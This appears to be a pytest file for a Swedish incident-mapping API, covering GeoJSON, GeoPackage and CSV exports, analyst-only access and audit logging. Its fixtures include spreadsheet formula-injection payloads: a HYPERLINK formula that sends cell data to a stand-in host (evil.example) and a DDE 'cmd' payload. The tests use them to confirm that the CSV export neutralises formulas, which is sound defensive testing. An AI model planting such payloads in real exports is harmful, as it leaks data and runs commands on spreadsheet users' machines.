"""Exports through the API: GeoJSON (RFC 7946), GeoPackage in 3006/3008/4326, CSV for
spreadsheets; roles and the audit log."""

from __future__ import annotations

import csv
import io
import json

import geopandas as gpd
import pytest
from fastapi.testclient import TestClient
from pyproj import Transformer

from api.auth import Principal, current_principal
from api.main import create_app
from hotspots.settings import get_settings

ANALYST = Principal(1, "anna", "analyst")

INCIDENTS = [
    {
        "external_id": "E1",
        "datetime": "2026-03-02T22:15:00+01:00",
        "category": "skadegorelse",
        "description": '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
        "lat": 55.93621234567,
        "lon": 13.54131234567,
    },
    {
        "external_id": "E2",
        "datetime": "2026-03-03T01:30:00+01:00",
        "category": "skadegorelse",
        "description": "+cmd|' /C calc'!A0",
        "lat": 55.9365,
        "lon": 13.5430,
    },
    {
        "external_id": "E3",
        "datetime": "2026-03-10T23:10:00+01:00",
        "category": "buskorning",
        "description": "Mopeder på torget",
        "lat": 55.9370,
        "lon": 13.5420,
    },
    {
        "external_id": "E4",
        "datetime": "2026-03-11T12:00:00+01:00",
        "category": "vald_nara_relation",
        "description": "känslig",
        "lat": 55.9371,
        "lon": 13.5421,
    },
    {
        # no place at all: exported with an empty geometry
        "external_id": "E5",
        "datetime": "2026-03-12T12:00:00+01:00",
        "category": "narkotika",
        "description": "@SUM(1+1)",
    },
]


@pytest.fixture
def app(store, monkeypatch):
    monkeypatch.setenv(
        "HOTSPOTS_DATABASE_URL", store.engine.url.render_as_string(hide_password=False)
    )
    get_settings.cache_clear()
    application = create_app()
    application.dependency_overrides[current_principal] = lambda: ANALYST
    return application


@pytest.fixture
def client(app):
    with TestClient(app) as c:
        r = c.post("/api/v1/incidents", json=INCIDENTS)
        assert r.json()["stored"] == 5, r.text
        yield c


@pytest.fixture
def observations(client):
    """Three observations: one reported and fixed, one closed, one new."""
    ids = []
    for i, desc in enumerate(["-1 lampa", "=1+2", "Skräp"]):
        r = client.post(
            "/api/v1/observations",
            json={
                "category": "belysning" if i == 0 else "nedskräpning",
                "lon": 13.54 + i / 1000,
                "lat": 55.93,
                "description": desc,
                "occurred_at": "2026-03-05T20:00:00+01:00",
            },
        )
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
    for status, at in (
        ("rapporterad", "2026-03-06T08:00:00Z"),
        ("åtgärdad", "2026-03-09T15:30:00Z"),
    ):
        r = client.patch(f"/api/v1/observations/{ids[0]}/status", json={"status": status, "at": at})
        assert r.status_code == 200
    client.patch(
        f"/api/v1/observations/{ids[1]}/status",
        json={"status": "avslutad", "at": "2026-03-07T10:00:00Z"},
    )
    return ids


def _csv_rows(r) -> list[dict]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    text = r.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


# ---------------------------------------------------------------------------- GeoJSON
def _max_decimals(coords) -> int:
    if isinstance(coords, (int, float)):
        s = repr(float(coords))
        return len(s.split(".")[1]) if "." in s and "e" not in s else 0
    return max((_max_decimals(c) for c in coords), default=0)


def test_geojson_is_rfc7946(client):
    r = client.get("/api/v1/exports/incidents.geojson")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/geo+json")
    assert "attachment" in r.headers["content-disposition"]
    fc = json.loads(r.content)
    assert fc["type"] == "FeatureCollection" and "crs" not in fc
    assert len(fc["features"]) == 5 == int(r.headers["x-record-count"])
    by_ext = {f["properties"]["external_id"]: f for f in fc["features"]}
    for f in fc["features"]:
        assert f["type"] == "Feature" and isinstance(f["id"], int)
        g = f["geometry"]
        if g is None:
            continue
        lon, lat = g["coordinates"]
        assert g["type"] == "Point"
        assert 10 < lon < 25 and 55 < lat < 70  # lon/lat order (Sweden)
        assert _max_decimals(g["coordinates"]) <= 7
    assert by_ext["E1"]["geometry"]["coordinates"] == [13.5413123, 55.9362123]
    assert by_ext["E5"]["geometry"] is None
    assert by_ext["E1"]["properties"]["occurred_from"] == "2026-03-02T21:15:00Z"
    # GeoJSON is data, not a spreadsheet: text is kept as it is
    assert by_ext["E1"]["properties"]["description"].startswith("=HYPERLINK")

    def count(params) -> int:
        r = client.get("/api/v1/exports/incidents.geojson", params=params)
        assert r.status_code == 200, r.text
        return len(r.json()["features"])

    assert count({"category": "skadegorelse"}) == 2
    assert count({"from": "2026-03-10", "to": "2026-03-11"}) == 2
    assert count({"bbox": "13.5415,55.936,13.55,55.94"}) == 3
    assert count({"crs": 4326}) == 5
    assert "RFC 7946" in client.get("/api/v1/exports/incidents.geojson?crs=3006").json()["detail"]


# ---------------------------------------------------------------------------- GeoPackage
@pytest.mark.parametrize("crs", [None, 3006, 3008, 4326])
def test_geopackage_reads_back_in_the_chosen_crs(client, tmp_path, crs):
    params = {} if crs is None else {"crs": crs}
    r = client.get("/api/v1/exports/incidents.gpkg", params=params)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/geopackage+sqlite3"
    path = tmp_path / "x.gpkg"
    path.write_bytes(r.content)
    gdf = gpd.read_file(path, layer="incidents")
    epsg = crs or 3006
    assert gdf.crs.to_epsg() == epsg
    assert len(gdf) == 5
    row = gdf.loc[gdf["external_id"] == "E1"].iloc[0]
    x, y = Transformer.from_crs(4326, epsg, always_xy=True).transform(
        13.54131234567, 55.93621234567
    )
    tol = 1e-7 if epsg == 4326 else 0.01
    assert row.geometry.x == pytest.approx(x, abs=tol)
    assert row.geometry.y == pytest.approx(y, abs=tol)
    if epsg != 4326:
        assert 300_000 < row.geometry.x < 500_000 or 100_000 < row.geometry.x < 200_000
        assert 6_100_000 < row.geometry.y < 6_300_000
    no_place = gdf.loc[gdf["external_id"] == "E5"].iloc[0]
    assert no_place.geometry is None or no_place.geometry.is_empty
    assert str(gdf["occurred_from"].iloc[0]).startswith("2026-03-02 21:15:00")
    assert client.get("/api/v1/exports/incidents.gpkg?crs=3021").status_code == 422


def test_measures_geopackage_has_points_and_areas(client, tmp_path):
    import pyogrio

    area = {
        "type": "Polygon",
        "coordinates": [[[13.53, 55.93], [13.55, 55.93], [13.55, 55.94], [13.53, 55.93]]],
    }
    client.post(
        "/api/v1/measures",
        json={"measure": "belysning", "title": "Lampa", "lon": 13.54, "lat": 55.93, "radius_m": 50},
    )
    client.post(
        "/api/v1/measures", json={"measure": "belysning", "title": "Park", "area_geojson": area}
    )
    r = client.get("/api/v1/exports/measures.gpkg", params={"crs": 3008})
    path = tmp_path / "m.gpkg"
    path.write_bytes(r.content)
    layers = dict(pyogrio.list_layers(path))
    assert set(layers) == {"measures", "measures_areas"}
    areas = gpd.read_file(path, layer="measures_areas")
    assert len(areas) == 1 and areas.crs.to_epsg() == 3008
    assert areas.geometry.iloc[0].geom_type == "MultiPolygon"
    fc = client.get("/api/v1/exports/measures.geojson").json()
    assert sorted(f["geometry"]["type"] for f in fc["features"]) == ["Point", "Polygon"]


# ---------------------------------------------------------------------------- CSV
def test_csv_neutralises_formulas(client):
    rows = _csv_rows(client.get("/api/v1/exports/incidents.csv"))
    assert len(rows) == 5
    desc = {r["external_id"]: r["description"] for r in rows}
    assert desc["E1"] == "'" + INCIDENTS[0]["description"]
    assert desc["E2"] == "'+cmd|' /C calc'!A0"
    assert desc["E5"] == "'@SUM(1+1)"
    assert desc["E3"] == "Mopeder på torget"
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    e1 = next(r for r in rows if r["external_id"] == "E1")
    assert e1["occurred_from"] == "2026-03-02 22:15:00+01:00"  # Swedish local time
    assert (e1["lon"], e1["lat"]) == ("13.5413123", "55.9362123")
    assert next(r for r in rows if r["external_id"] == "E5")["lon"] == ""

    sweref = _csv_rows(client.get("/api/v1/exports/incidents.csv?crs=3006"))
    x, y = Transformer.from_crs(4326, 3006, always_xy=True).transform(
        13.54131234567, 55.93621234567
    )
    e1 = next(r for r in sweref if r["external_id"] == "E1")
    assert float(e1["x_epsg3006"]) == pytest.approx(x, abs=0.01)
    assert float(e1["y_epsg3006"]) == pytest.approx(y, abs=0.01)


def test_observation_csv_has_status_times(client, observations):
    rows = _csv_rows(client.get("/api/v1/exports/observations.csv"))
    by_id = {int(r["id"]): r for r in rows}
    fixed, closed, new = (by_id[i] for i in observations)
    assert fixed["status"] == "åtgärdad"
    assert fixed["reported_at"] == "2026-03-06 09:00:00+01:00"
    assert fixed["fixed_at"] == "2026-03-09 16:30:00+01:00"
    assert fixed["closed_at"] == ""
    assert closed["closed_at"] == "2026-03-07 11:00:00+01:00" and closed["fixed_at"] == ""
    assert (new["reported_at"], new["fixed_at"], new["closed_at"]) == ("", "", "")
    assert fixed["description"] == "'-1 lampa" and closed["description"] == "'=1+2"
    assert new["description"] == "Skräp"
    fc = client.get("/api/v1/exports/observations.geojson").json()
    props = {f["id"]: f["properties"] for f in fc["features"]}
    assert props[observations[0]]["fixed_at"] == "2026-03-09T15:30:00Z"


# ---------------------------------------------------------------------------- roles, audit
@pytest.mark.parametrize(
    ("principal", "expected"),
    [
        (None, 401),
        (Principal(2, "fält", "field"), 403),
        (Principal(3, "ledning", "leadership"), 403),
        (Principal(4, "allmän", "public"), 403),
        (Principal(0, "admin", "admin"), 200),
        (ANALYST, 200),
    ],
)
def test_exports_are_for_analysts(app, client, principal, expected):
    if principal is None:
        app.dependency_overrides.pop(current_principal)
    else:
        app.dependency_overrides[current_principal] = lambda: principal
    for layer in ("incidents", "observations", "measures"):
        for fmt in ("geojson", "csv"):
            assert client.get(f"/api/v1/exports/{layer}.{fmt}").status_code == expected


def test_every_export_is_audited(client, store):
    from hotspots.store.users import audit_entries

    client.get("/api/v1/exports/incidents.geojson?category=skadegorelse")
    client.get("/api/v1/exports/observations.csv")
    client.get("/api/v1/exports/measures.gpkg?crs=3008")
    entries = audit_entries(store)
    exports = [e for e in entries if e["action"].startswith("export.")]
    assert {(e["action"], e["target"]) for e in exports} == {
        ("export.geojson", "incidents"),
        ("export.csv", "observations"),
        ("export.gpkg", "measures"),
    }
    geo = next(e for e in exports if e["action"] == "export.geojson")
    assert geo["user_name"] == "anna" and geo["role"] == "analyst"
    assert geo["detail"]["records"] == 2 and geo["detail"]["category"] == ["skadegorelse"]
    assert any(e["action"] == "import.records" for e in entries)


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/exports/incidents.xlsx",
        "/api/v1/exports/people.csv",
        "/api/v1/exports/incidents.csv?from=2026-02-30",
        "/api/v1/exports/incidents.csv?bbox=13,55",
        "/api/v1/exports/incidents.csv?category=belysning",
        "/api/v1/exports/measures.csv?category=skadegorelse",
        "/api/v1/exports/incidents.gpkg?crs=abc",
    ],
)
def test_bad_export_requests_are_422(client, path):
    assert client.get(path).status_code == 422
